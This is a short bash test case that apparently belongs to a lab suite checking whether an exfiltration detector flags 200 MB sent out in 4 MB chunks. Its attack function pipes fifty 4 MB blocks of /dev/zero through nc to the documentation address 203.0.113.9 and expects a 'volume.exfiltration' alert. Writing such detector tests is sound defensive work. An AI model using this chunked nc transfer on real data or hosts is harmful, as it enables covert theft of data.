# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='200 MB leave in pieces of 4 MB'
case_class=A
case_prepare() {
	lab_in outside sh -c 'while :; do timeout 60 nc -l -p 9417 >/dev/null </dev/null; done' >/dev/null 2>&1 &
	lab_defer kill $!
	run app pg-many sh -c 'while sleep 0.7; do head -c 2000 /dev/zero | nc -w 1 -N 203.0.113.9 9417; done'
}
case_benign() { in_ app sh -c 'head -c 2600 /dev/zero | nc -w 1 -N 203.0.113.9 9417'; return 0; }
case_attack() { in_ app sh -c 'i=0; while [ $i -lt 50 ]; do head -c 4000000 /dev/zero | nc -w 1 -N 203.0.113.9 9417 || sleep 0.1; i=$((i + 1)); done'; sleep 2; }
case_expect='volume.exfiltration A15chunks-app * ext:203.0.113.9'
